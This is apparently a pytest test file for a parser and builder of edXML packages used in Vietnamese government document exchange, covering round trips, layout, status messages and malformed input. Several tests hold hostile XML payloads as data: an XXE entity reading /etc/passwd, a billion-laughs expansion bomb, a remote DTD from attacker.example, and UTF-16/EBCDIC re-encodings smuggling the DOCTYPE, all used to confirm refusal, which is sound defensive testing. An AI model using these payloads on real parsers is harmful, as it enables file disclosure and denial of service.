"""edXML packages survive a round trip; hostile or broken packages are refused clearly."""

from __future__ import annotations

import dataclasses
import time
from datetime import UTC, date, datetime

import pytest
from lxml import etree

from formats.edxml import (
    NS,
    BusinessType,
    EdxmlError,
    EdxmlMessage,
    EdxmlPackage,
    ResponseFor,
    SignerInfo,
    StaffInfo,
    StatusCode,
    StatusMessage,
    build_package,
    build_status,
    parse_message,
    parse_package,
    parse_status,
)
from tests.formats import edxml_samples as samples

ATTACHMENTS = samples.ATTACHMENTS
MESSAGE = samples.MESSAGE
SNV, STC, UBND, VN = samples.SNV, samples.STC, samples.UBND, samples.VN


def test_round_trip_keeps_every_field_and_attachment() -> None:
    package = parse_package(build_package(MESSAGE, ATTACHMENTS))
    assert package.message == MESSAGE
    assert package.attachments == tuple(ATTACHMENTS)
    assert package.document_id == "000.00.00.H41,2026/02/05,15/QĐ-UBND"


@pytest.mark.parametrize("doc_type", list(BusinessType))
def test_round_trip_of_every_business_type(doc_type: BusinessType) -> None:
    message = dataclasses.replace(MESSAGE, business=samples.BUSINESSES[doc_type])
    package = parse_package(build_package(message, ATTACHMENTS))
    assert package.message == message
    assert package.message.business.doc_type == doc_type
    assert package.attachments == tuple(ATTACHMENTS)


def test_package_has_the_layout_the_official_library_reads() -> None:
    """Root ``edXML`` holding the envelope and ``AttachmentEncoded``; manifest references and
    attachments as child elements with ``cid:`` ids; QCVN 102 timestamps and TypeDetail."""
    root = etree.fromstring(build_package(MESSAGE, ATTACHMENTS))
    e = {"e": NS}
    assert root.tag == f"{{{NS}}}edXML" and root.prefix is None
    assert [child.tag for child in root] == [f"{{{NS}}}edXMLEnvelope",
                                             f"{{{NS}}}AttachmentEncoded"]
    header = root.find("e:edXMLEnvelope/e:edXMLHeader", e)
    assert [c.tag.split("}")[1] for c in header] == ["MessageHeader", "TraceHeaderList"]
    mh = header.find("e:MessageHeader", e)
    assert mh.findtext("e:DocumentId", namespaces=e) == "000.00.00.H41,2026/02/05,15/QĐ-UBND"
    assert mh.findtext("e:DocumentType/e:TypeDetail", namespaces=e) == "2"
    assert mh.findtext("e:OtherInfo/e:Direction", namespaces=e) == "true"
    assert header.findtext("e:TraceHeaderList/e:TraceHeader/e:Timestamp",
                           namespaces=e) == "2026/02/05 09:30:15"
    refs = root.findall("e:edXMLEnvelope/e:edXMLBody/e:edXMLManifest/e:Reference", e)
    attachments = root.findall("e:AttachmentEncoded/e:Attachment", e)
    assert [r.findtext("e:ContentId", namespaces=e) for r in refs] == ["cid:1", "cid:2"]
    assert [a.findtext("e:ContentId", namespaces=e) for a in attachments] == ["cid:1", "cid:2"]
    assert [a.findtext("e:AttachmentName", namespaces=e) for a in attachments] == [
        "15-QD-UBND.pdf", "Phụ lục.docx"]
    assert attachments[0].findtext("e:ContentType", namespaces=e) == "application/pdf"
    assert attachments[0].findtext("e:ContentTransferEncoded", namespaces=e).startswith("JVBER")


def test_timestamps_are_written_in_vietnamese_local_time() -> None:
    utc_trace = dataclasses.replace(MESSAGE.trace_headers[0],
                                    timestamp=datetime(2026, 2, 5, 20, 0, 1, tzinfo=UTC))
    data = build_package(dataclasses.replace(MESSAGE, trace_headers=(utc_trace,)), [])
    assert b"<edXML:Timestamp>2026/02/06 03:00:01</edXML:Timestamp>" in data
    assert parse_package(data).message.trace_headers == (utc_trace,)


def test_minimal_package_without_optional_parts() -> None:
    message = EdxmlMessage(from_org=UBND, to_orgs=(SNV,), code_number="05",
                           code_notation="UBND-VP", place="Hòa Bình",
                           promulgation_date=date(2026, 1, 2), document_type=0,
                           type_name="Công văn", subject="V/v báo cáo",
                           signer=SignerInfo("", "Chánh Văn phòng", "Trần Thị Nhung"))
    package = parse_package(build_package(message, []))
    assert package.message == message and package.attachments == ()


def test_characters_xml_cannot_carry_are_dropped() -> None:
    pasted = dataclasses.replace(MESSAGE, subject="Về việc\x0bbáo cáo\x00 quý I\x1f")
    assert parse_package(build_package(pasted, [])).message.subject == "Về việcbáo cáo quý I"


@pytest.mark.parametrize("secrecy", ["Mật", "Tối mật", "Tuyệt mật"])
def test_secret_documents_are_never_packaged(secrecy: str) -> None:
    with pytest.raises(EdxmlError, match="độ mật"):
        build_package(dataclasses.replace(MESSAGE, secrecy=secrecy), ATTACHMENTS)


@pytest.mark.parametrize("code", list(StatusCode))
def test_status_round_trip_for_every_code(code: StatusCode) -> None:
    status = StatusMessage(
        response_for=ResponseFor("000.00.00.H41", "15/QĐ-UBND", date(2026, 2, 5),
                                 "000.00.00.H41,2026/02/05,15/QĐ-UBND"),
        from_org=SNV, code=code, timestamp=datetime(2026, 2, 5, 10, 0, 1, tzinfo=VN),
        description=code.label, staff=StaffInfo("Văn phòng Sở", "Phạm Văn Thư"))
    data = build_status(status)
    assert parse_status(data) == status
    assert parse_message(data) == status
    root = etree.fromstring(data)
    mh = root.find(f"{{{NS}}}edXMLEnvelope/{{{NS}}}edXMLHeader/{{{NS}}}MessageHeader")
    assert [c.tag.split("}")[1] for c in mh] == ["From", "ResponseFor", "StaffInfo",
                                                 "StatusCode", "Description", "Timestamp"]
    assert mh.findtext(f"{{{NS}}}Timestamp") == "2026/02/05 10:00:01"


def test_a_package_and_a_status_are_told_apart() -> None:
    package = build_package(MESSAGE, ATTACHMENTS)
    assert isinstance(parse_message(package), EdxmlPackage)
    status = build_status(StatusMessage(MESSAGE.response_for[0], SNV, StatusCode.ARRIVED,
                                        datetime(2026, 2, 5, tzinfo=VN)))
    with pytest.raises(EdxmlError, match="thông điệp trạng thái"):
        parse_package(status)


def test_status_codes_match_the_standard() -> None:
    assert [c.value for c in StatusCode] == ["01", "02", "03", "04", "05", "06", "13", "15",
                                             "16"]


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<edXML:edXMLEnvelope xmlns:edXML="http://www.mic.gov.vn/TBT/QCVN_102_2016">&x;</edXML:edXMLEnvelope>"""

LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<edXML:edXMLEnvelope xmlns:edXML="http://www.mic.gov.vn/TBT/QCVN_102_2016">&lol3;</edXML:edXMLEnvelope>"""

REMOTE_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd">
<edXML:edXMLEnvelope xmlns:edXML="http://www.mic.gov.vn/TBT/QCVN_102_2016"/>"""


@pytest.mark.parametrize("payload", [XXE, LAUGHS, REMOTE_DTD], ids=["xxe", "laughs", "dtd"])
def test_hostile_xml_is_refused_fast(payload: bytes) -> None:
    start = time.monotonic()
    for parse in (parse_package, parse_status):
        with pytest.raises(EdxmlError, match="DTD"):
            parse(payload)
    assert time.monotonic() - start < 1


def test_oversized_input_is_refused_before_parsing() -> None:
    data = build_package(MESSAGE, ATTACHMENTS)
    with pytest.raises(EdxmlError, match="vượt quá dung lượng"):
        parse_package(data, max_bytes=len(data) - 1)
    assert parse_package(data, max_bytes=len(data)).message == MESSAGE
    with pytest.raises(EdxmlError, match="vượt quá dung lượng"):
        parse_status(data, max_bytes=1024)


def test_utf16_smuggled_doctype_is_refused() -> None:
    with pytest.raises(EdxmlError, match="UTF-16"):
        parse_package(XXE.decode().encode("utf-16"))
    with pytest.raises(EdxmlError, match="UTF-16"):
        parse_package(XXE.decode().encode("utf-16-le"))
    ebcdic = b'<?xml version="1.0" encoding="cp500"?>' + XXE.split(b"?>", 1)[1].decode() \
        .encode("cp500")
    with pytest.raises(EdxmlError, match="chỉ nhận UTF-8"):
        parse_package(ebcdic)


@pytest.mark.parametrize(
    ("payload", "message"),
    [
        (b"", "rỗng"),
        (b"not xml", "XML"),
        (b"<edXML:edXMLEnvelope xmlns:edXML='urn:other'/>", "QCVN 102"),
        (b"<a><b></a>", "cú pháp"),
        (f"<e:edXMLEnvelope xmlns:e='{NS}'><e:edXMLHeader/></e:edXMLEnvelope>".encode(),
         "MessageHeader"),
    ],
)
def test_malformed_packages_give_clear_errors(payload: bytes, message: str) -> None:
    with pytest.raises(EdxmlError, match=message):
        parse_package(payload)


def test_broken_attachment_and_missing_payload_are_detected() -> None:
    good = build_package(MESSAGE, ATTACHMENTS[:1])
    root = etree.fromstring(good)
    node = root.find(f"{{{NS}}}AttachmentEncoded/{{{NS}}}Attachment/{{{NS}}}ContentTransferEncoded")
    node.text = "!!! not base64 !!!"
    with pytest.raises(EdxmlError, match="base64"):
        parse_package(etree.tostring(root))
    root = etree.fromstring(good)
    node = root.find(f"{{{NS}}}AttachmentEncoded/{{{NS}}}Attachment/{{{NS}}}ContentId")
    node.text = "cid:other"
    with pytest.raises(EdxmlError, match=r"thiếu nội dung tệp đính kèm '15-QD-UBND\.pdf'"):
        parse_package(etree.tostring(root))


def test_bad_dates_and_unknown_status_codes() -> None:
    bad_date = build_package(MESSAGE, []).replace(b"2026/02/05</", b"05-02-2026</", 1)
    with pytest.raises(EdxmlError, match="không hợp lệ"):
        parse_package(bad_date)
    status = build_status(StatusMessage(
        response_for=MESSAGE.response_for[0], from_org=SNV, code=StatusCode.ARRIVED,
        timestamp=datetime(2026, 2, 5, tzinfo=VN)))
    with pytest.raises(EdxmlError, match="không được hỗ trợ"):
        parse_status(status.replace(b">01<", b">99<"))
